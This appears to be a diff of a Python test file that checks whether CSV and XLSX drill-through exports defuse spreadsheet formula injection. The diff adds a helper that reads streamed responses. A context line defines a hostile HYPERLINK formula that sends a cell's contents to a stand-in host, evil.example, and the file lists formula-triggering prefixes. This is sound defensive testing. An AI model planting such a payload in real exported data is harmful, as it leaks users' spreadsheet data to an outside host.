@@ -20,6 +20,11 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"x")'
 STARTS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "'=1+2"]
 
 
+def _body(response) -> bytes:
+    """A download's bytes, whether it was written whole or streamed (drill exports stream)."""
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
 def _xlsx_cells(content: bytes) -> list:
     book = openpyxl.load_workbook(io.BytesIO(content))
     return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
@@ -83,9 +88,9 @@ def test_drill_through_exports_write_text(world, client_for):
     _finding(world, HOSTILE)
     client = client_for(world.district_user)
     query = {"org": world.branch_a.code, "key": "rectify.found", "from": f"{TODAY.year}-01-01", "to": TODAY.isoformat()}
-    content = client.get(reverse("indicators:drill"), {**query, "export": "xlsx"}).content
+    content = _body(client.get(reverse("indicators:drill"), {**query, "export": "xlsx"}))
     _assert_inert_xlsx(content, HOSTILE)
-    fields = _csv_fields(client.get(reverse("indicators:drill"), {**query, "export": "csv"}).content)
+    fields = _csv_fields(_body(client.get(reverse("indicators:drill"), {**query, "export": "csv"})))
     assert "'" + HOSTILE in fields and HOSTILE not in fields
 
 
